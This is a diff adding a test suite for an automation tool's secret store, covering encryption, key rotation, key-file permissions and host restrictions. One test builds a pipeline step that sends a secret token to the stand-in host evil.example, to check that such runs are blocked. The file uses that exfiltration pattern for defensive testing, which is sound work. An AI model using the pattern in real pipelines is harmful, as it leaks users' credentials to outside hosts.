@@ -1,0 +1,393 @@
+import { randomBytes } from 'node:crypto';
+import { chmod, mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
+import { catalogue } from '@/engine/actions';
+import { ActionError } from '@/engine/errors';
+import type { SettingName } from '@/engine/ports';
+import { addSecretInput, changeSecretInput } from '@/lib/contracts/secrets';
+import { KeyRing } from '../../adapters/secrets/key-ring';
+import { formatMasterKey, type MasterKey, newMasterKey } from '../../adapters/secrets/master-key';
+import { createSecretStore } from '../../adapters/secrets/store';
+import { type App, type AppConfig, compose } from '../../compose';
+import { findSecret } from '../../store/secrets';
+import { createTestDatabase, type TestDatabase } from '../../testing/database';
+
+const CANARY = 'canary-Zq7Xw93kd-"&é';
+const NO_CLOSE = async () => undefined;
+
+let database: TestDatabase;
+let dataDir: string;
+let open: App[] = [];
+
+beforeAll(async () => {
+  database = await createTestDatabase();
+});
+afterAll(() => database.close());
+beforeEach(async () => {
+  dataDir = await mkdtemp(join(tmpdir(), 'pipewright-secrets-'));
+});
+afterEach(async () => {
+  await Promise.all(open.map((app) => app.close()));
+  open = [];
+  await database.sql`delete from secrets`;
+  await rm(dataDir, { recursive: true, force: true });
+});
+
+/** A server whose data folder is the test's; what goes wrong beside a request is an error of the test. */
+async function start(config: Partial<AppConfig> = {}): Promise<App> {
+  const settings: AppConfig = {
+    databaseUrl: 'postgres://elsewhere',
+    dataDir,
+    host: '127.0.0.1',
+    port: 3000,
+    hosts: [],
+    egressMode: undefined,
+    egressAllow: [],
+    runsWorker: false,
+    leaseMs: 2000,
+    blobs: { kind: 'database' },
+    filesKeepDays: 30,
+    masterKeys: [],
+    settings: {},
+    ...config,
+  };
+  const report = (error: unknown, what: string) => {
+    throw new Error(what, { cause: error });
+  };
+  const app = await compose(settings, { sql: database.sql, close: NO_CLOSE }, { catalogue, report });
+  open.push(app);
+  return app;
+}
+
+const keyFile = () => join(dataDir, 'secret.key');
+const add = (app: App, name: string, more: { value?: string; hosts?: string[]; description?: string } = {}) =>
+  app.secrets.add(addSecretInput.parse({ name, value: CANARY, ...more }));
+const reveal = async (app: App, name: string) => (await app.world.secrets.reveal(name))?.value;
+
+describe('a secret', () => {
+  test('is stored, given to an attempt with its hosts, and never listed with its value', async () => {
+    const app = await start();
+    await add(app, 'token', {
+      hosts: ['API.example.org', 'api.example.org', '*.b.org'],
+      description: ' For tests ',
+    });
+    expect(await app.world.secrets.reveal('token')).toEqual({
+      name: 'token',
+      value: CANARY,
+      hosts: ['api.example.org', '*.b.org'],
+    });
+    const [listed] = await app.secrets.list();
+    expect(listed).toMatchObject({ name: 'token', description: 'For tests', usedBy: [], problem: null });
+    expect(JSON.stringify([listed, await app.secrets.names()])).not.toContain('canary');
+    expect(await reveal(app, 'other')).toBeUndefined();
+  });
+
+  test('is nowhere in the database as it is', async () => {
+    const app = await start();
+    await add(app, 'token');
+    await app.world.secrets.reveal('token');
+    const [row] = await database.sql`
+      select s::text as text, encode(ciphertext, 'escape') as bytes, encode(wrapped_key, 'hex') as key from secrets s`;
+    const dump = JSON.stringify(row);
+    for (const form of [
+      CANARY,
+      Buffer.from(CANARY).toString('hex'),
+      Buffer.from(CANARY).toString('base64'),
+    ]) {
+      expect(dump).not.toContain(form.slice(0, 8));
+    }
+  });
+
+  test('is not replaced by one of the same name', async () => {
+    const app = await start();
+    await add(app, 'token');
+    await expect(add(app, 'token', { value: 'another value' })).rejects.toMatchObject({ code: 'conflict' });
+    expect(await reveal(app, 'token')).toBe(CANARY);
+  });
+
+  test('keeps its value when only what is said about it changes, and its hosts when only its value does', async () => {
+    const app = await start();
+    await add(app, 'token', { hosts: ['a.org'] });
+    const change = (more: object) =>
+      app.secrets.change(
+        changeSecretInput.parse({ name: 'token', description: '', hosts: ['a.org'], ...more }),
+      );
+    await change({ description: 'Said' });
+    await change({ description: 'Said', hosts: ['b.org'] });
+    expect(await app.world.secrets.reveal('token')).toMatchObject({ value: CANARY, hosts: ['b.org'] });
+    await change({ value: 'another value', hosts: ['b.org'] });
+    expect(await app.world.secrets.reveal('token')).toMatchObject({
+      value: 'another value',
+      hosts: ['b.org'],
+    });
+    await expect(
+      app.secrets.change(changeSecretInput.parse({ name: 'nobody', description: '', hosts: [] })),
+    ).rejects.toMatchObject({ code: 'not_found' });
+  });
+
+  test('says which pipelines refer to it, and goes when it is deleted', async () => {
+    const app = await start();
+    await add(app, 'token');
+    const steps = [
+      {
+        id: 'a',
+        action: 'http_request',
+        params: { url: 'https://x.org', headers: { k: '{{secrets.token}}' } },
+      },
+    ];
+    const { id } = await app.pipelines.create({ text: JSON.stringify({ name: 'Uses it', steps }) });
+    await app.pipelines.create({ text: JSON.stringify({ name: 'Says secrets only', steps: [] }) });
+    expect((await app.secrets.list())[0]?.usedBy).toEqual([{ id, name: 'Uses it' }]);
+    await app.secrets.remove({ name: 'token' });
+    expect(await app.secrets.list()).toEqual([]);
+    await expect(app.secrets.remove({ name: 'token' })).rejects.toMatchObject({ code: 'not_found' });
+  });
+
+  test('blocks a run of a pipeline that would send it elsewhere, once its hosts say so', async () => {
+    const app = await start();
+    await add(app, 'token');
+    const steps = [
+      { id: 'a', action: 'http_request', params: { url: 'https://evil.example/{{secrets.token}}' } },
+    ];
+    const { id } = await app.pipelines.create({ text: JSON.stringify({ name: 'P', steps }) });
+    await expect(app.runs.start({ pipelineId: id })).resolves.toMatchObject({ number: 1 });
+    await app.secrets.change(
+      changeSecretInput.parse({ name: 'token', description: '', hosts: ['api.example.org'] }),
+    );
+    await expect(app.runs.start({ pipelineId: id })).rejects.toMatchObject({
+      code: 'invalid',
+      message: expect.stringContaining('may be sent to api.example.org only, not to evil.example'),
+    });
+    const { id: imported } = await app.pipelines.create({ text: JSON.stringify({ name: 'Q', steps }) });
+    const found = (await app.pipelines.list()).find((pipeline) => pipeline.id === imported);
+    expect(found?.problemCount).toBe(1);
+  });
+
+  test('tells when it was last used, to the minute', async () => {
+    const app = await start();
+    await add(app, 'token');
+    const keys = new KeyRing({ keys: [], file: keyFile(), tell: () => undefined });
+    let now = new Date('2026-11-21T10:00:00Z');
+    const store = createSecretStore({ sql: database.sql, keys, now: () => now, report: () => undefined });
+    const used = async () => (await app.secrets.list())[0]?.lastUsedAt;
+    expect(await used()).toBeNull();
+    await store.reveal('token');
+    now = new Date('2026-11-21T10:00:59Z');
+    await store.reveal('token');
+    expect(await used()).toBe('2026-11-21T10:00:00.000Z');
+    now = new Date('2026-11-21T10:01:00Z');
+    await store.reveal('token');
+    expect(await used()).toBe('2026-11-21T10:01:00.000Z');
+  });
+
+  test('cannot be given other hosts in the database', async () => {
+    const app = await start();
+    await add(app, 'token', { hosts: ['api.example.org'] });
+    await add(app, 'other', { value: 'another value' });
+    await database.sql`update secrets set allowed_hosts = '{}' where name = 'token'`;
+    await expect(reveal(app, 'token')).rejects.toThrow(
+      /The secret token cannot be read: .* does not open it/,
+    );
+    await database.sql`
+      update secrets t set ciphertext = o.ciphertext, iv = o.iv, tag = o.tag, wrapped_key = o.wrapped_key
+      from secrets o where t.name = 'token' and o.name = 'other'`;
+    await expect(reveal(app, 'token')).rejects.toThrow(ActionError);
+    expect(await reveal(app, 'other')).toBe('another value');
+  });
+});
+
+describe('the key file', () => {
+  test('is made with the first secret, readable by its owner alone, outside the database', async () => {
+    const app = await start();
+    expect(await readdir(dataDir)).toEqual([]);
+    await add(app, 'token');
+    expect((await stat(keyFile())).mode & 0o777).toBe(0o600);
+    expect(await readdir(dataDir)).toEqual(['secret.key']);
+    expect(await reveal(await start(), 'token')).toBe(CANARY);
+  });
+
+  test('is one, whoever is first', async () => {
+    const apps = await Promise.all([start(), start(), start()]);
+    await Promise.all(apps.flatMap((app, at) => [add(app, `a${at}`), add(app, `b${at}`)]));
+    const fresh = await start();
+    const listed = await fresh.secrets.list();
+    expect(listed).toHaveLength(6);
+    expect(listed.every(({ problem }) => problem === null)).toBe(true);
+    expect(await readdir(dataDir)).toEqual(['secret.key']);
+  });
+
+  test('is closed to others when it was open, and that is told', async () => {
+    await add(await start(), 'token');
+    await chmod(keyFile(), 0o644);
+    const told: string[] = [];
+    const keys = new KeyRing({ keys: [], file: keyFile(), tell: (line) => told.push(line) });
+    expect(await keys.current()).toBeDefined();
+    expect((await stat(keyFile())).mode & 0o777).toBe(0o600);
+    expect(told).toEqual([expect.stringContaining('could be read by others (mode 644)')]);
+  });
+});
+
+describe('a lost or wrong key', () => {
+  const [a, b]: MasterKey[] = [newMasterKey(), newMasterKey()];
+  if (!a || !b) throw new Error('unreachable');
+  const rowOf = (name: string) => findSecret(database.sql, name);
+
+  test('leaves everything else working, names the key, and nothing is overwritten', async () => {
+    await add(await start({ masterKeys: [a] }), 'token');
+    const before = await rowOf('token');
+    for (const masterKeys of [[b], []]) {
+      const app = await start({ masterKeys });
+      await expect(reveal(app, 'token')).rejects.toThrow(`it was sealed with the key ${a.id}`);
+      const [listed] = await app.secrets.list();
+      expect(listed?.problem).toContain(a.id);
+      expect(await app.pipelines.list()).toBeDefined();
+      const hosts = { name: 'token', description: '', hosts: ['a.org'] };
+      await expect(app.secrets.change(changeSecretInput.parse(hosts))).rejects.toMatchObject({
+        code: 'unavailable',
+      });
+      expect(await rowOf('token')).toEqual(before);
+    }
+    expect(await reveal(await start({ masterKeys: [a] }), 'token')).toBe(CANARY);
+  });
+
+  test('makes no new key beside secrets of the lost one, until those are gone', async () => {
+    await add(await start(), 'token');
+    const kept = await readFile(keyFile(), 'utf8');
+    await rm(keyFile());
+    const app = await start();
+    await expect(add(app, 'second')).rejects.toThrow(/Nothing was stored: .* sealed with the key k-/);
+    expect(await readdir(dataDir)).toEqual([]);
+    await writeFile(keyFile(), kept, { mode: 0o600 });
+    expect(await reveal(app, 'token')).toBe(CANARY);
+    await rm(keyFile());
+    const later = await start();
+    await later.secrets.remove({ name: 'token' });
+    await add(later, 'second');
+    expect(await reveal(later, 'second')).toBe(CANARY);
+  });
+
+  test('is told for a key file that is broken, and the server starts', async () => {
+    await add(await start({ masterKeys: [a] }), 'token');
+    await writeFile(keyFile(), 'hunter2', { mode: 0o600 });
+    const app = await start({ masterKeys: [b] }).catch((error: unknown) => error);
+    expect(app).not.toBeInstanceOf(Error);
+    const [listed] = await (app as App).secrets.list();
+    expect(listed?.problem).toMatch(/The key file .*secret\.key must hold keys/);
+    expect(listed?.problem).not.toContain('hunter2');
+  });
+
+  test('may be replaced by giving the value again', async () => {
+    await add(await start({ masterKeys: [a] }), 'token');
+    const app = await start({ masterKeys: [b] });
+    await app.secrets.change(
+      changeSecretInput.parse({ name: 'token', value: 'another value', description: '', hosts: [] }),
+    );
+    expect(await reveal(app, 'token')).toBe('another value');
+  });
+});
+
+describe('a new key', () => {
+  test('encrypts, the old one still decrypts, and a start brings every secret under the new one', async () => {
+    const [first, next] = [newMasterKey(), newMasterKey()];
+    const old = await start({ masterKeys: [first] });
+    for (let at = 0; at < 20; at += 1) await add(old, `s${at}`, { value: `${CANARY}${at}` });
+    await start({ masterKeys: [next, first] });
+    const keys = await database.sql`select distinct key_id as id from secrets`;
+    expect(keys.map(({ id }) => id)).toEqual([next.id]);
+    const after = await start({ masterKeys: [next] });
+    expect(await reveal(after, 's7')).toBe(`${CANARY}7`);
+    await expect(reveal(old, 's7')).rejects.toThrow(next.id);
+  });
+
+  test('comes from the key file to PIPEWRIGHT_KEY in the same way', async () => {
+    await add(await start(), 'token');
+    const next = newMasterKey();
+    await start({ masterKeys: [next] });
+    await rm(keyFile());
+    expect(await reveal(await start({ masterKeys: [next] }), 'token')).toBe(CANARY);
+  });
+
+  test('leaves a secret alone whose key is missing', async () => {
+    const [lost, first, next] = [newMasterKey(), newMasterKey(), newMasterKey()];
+    await add(await start({ masterKeys: [lost] }), 'gone');
+    await add(await start({ masterKeys: [first] }), 'here');
+    await writeFile(keyFile(), formatMasterKey(first), { mode: 0o600 });
+    const app = await start({ masterKeys: [next] });
+    expect(await reveal(app, 'here')).toBe(CANARY);
+    expect((await findSecret(database.sql, 'gone'))?.keyId).toBe(lost.id);
+    expect(await reveal(await start({ masterKeys: [lost] }), 'gone')).toBe(CANARY);
+  });
+});
+
+describe('settings of the channels', () => {
+  const read = async (app: App, name: SettingName) => app.world.settings(name);
+
+  test('come from what is set here, bound to their own host', async () => {
+    const app = await start();
+    expect(await read(app, 'smtp_url')).toBeUndefined();
+    await app.channels.set({ name: 'smtp_url', value: 'smtp://me:hunter2hunter2@Mail.example.org:587' });
+    await app.channels.set({ name: 'mail_from', value: 'Jo <jo@b.org>' });
+    expect(await read(app, 'smtp_url')).toMatchObject({
+      secret: { name: 'SMTP_URL', hosts: ['mail.example.org'] },
+    });
+    expect(await read(app, 'mail_from')).toEqual({ value: 'Jo <jo@b.org>' });
+    const listed = await app.channels.list();
+    expect(listed.find(({ name }) => name === 'smtp_url')).toMatchObject({
+      from: 'here',
+      shown: 'mail.example.org',
+    });
+    expect(listed.find(({ name }) => name === 'mail_from')).toMatchObject({ shown: 'Jo <jo@b.org>' });
+    expect(listed.find(({ name }) => name === 'webhook_url')).toMatchObject({ from: 'nowhere', shown: null });
+    expect(JSON.stringify(listed)).not.toContain('hunter2');
+    await app.channels.set({ name: 'smtp_url', value: 'smtp://other.example.org' });
+    expect(await read(app, 'smtp_url')).toMatchObject({ value: 'smtp://other.example.org' });
+    await app.channels.clear({ name: 'smtp_url' });
+    expect(await read(app, 'smtp_url')).toBeUndefined();
+  });
+
+  test('come from the environment first', async () => {
+    const value = 'https://hooks.slack.com/services/T0/B0/XXXX';
+    const app = await start({ settings: { chat_a_webhook_url: value } });
+    expect(await read(app, 'chat_a_webhook_url')).toEqual({
+      value,
+      secret: { name: 'SLACK_WEBHOOK_URL', value, hosts: ['hooks.slack.com'] },
+    });
+    expect((await app.channels.list()).find(({ name }) => name === 'chat_a_webhook_url')).toMatchObject({
+      from: 'environment',
+      shown: 'hooks.slack.com',
+    });
+    await expect(app.channels.set({ name: 'chat_a_webhook_url', value })).rejects.toMatchObject({
+      code: 'conflict',
+    });
+  });
+
+  test.each<[SettingName, string]>([
+    ['smtp_url', 'mail.example.org hunter2'],
+    ['mail_from', 'nobody hunter2'],
+    ['chat_a_webhook_url', 'hooks.slack.com/hunter2'],
+    ['webhook_url', 'https://me:hunter2@example.org'],
+    ['webhook_signing_key', 'hunter2'],
+  ])('are refused when %s cannot use them, without repeating them', async (name, value) => {
+    const app = await start();
+    const refusal = await app.channels.set({ name, value }).catch((error: unknown) => error);
+    expect(refusal).toMatchObject({ code: 'invalid' });
+    expect(String(refusal)).not.toContain('hunter2');
+  });
+});
+
+test('what cannot be a secret is refused with a reason', () => {
+  const reasonOf = (input: object) =>
+    addSecretInput.safeParse({ name: 'a', value: CANARY, ...input }).error?.issues[0]?.message;
+  expect(reasonOf({ value: '1234567' })).toContain('could not be hidden');
+  expect(reasonOf({ value: `${' '.repeat(20)}x` })).toContain('white space');
+  expect(reasonOf({ value: randomBytes(40_000).toString('hex') })).toContain('At most 65536');
+  expect(reasonOf({ name: 'a-b' })).toContain('letters, digits and _');
+  expect(reasonOf({ hosts: ['https://a.org'] })).toContain('no https:// and no port');
+  expect(reasonOf({ hosts: ['a.org:80'] })).toContain('is not a host');
+  expect(reasonOf({ hosts: ['a.org/x', '*', '*.10.0.0.1'] })).toContain('is not a host');
+  expect(
+    addSecretInput.parse({ name: 'a', value: CANARY, hosts: ['Bücher.example.', '[::1]', '10.1'] }).hosts,
+  ).toEqual(['xn--bcher-kva.example', '::1', '10.0.0.1']);
+});
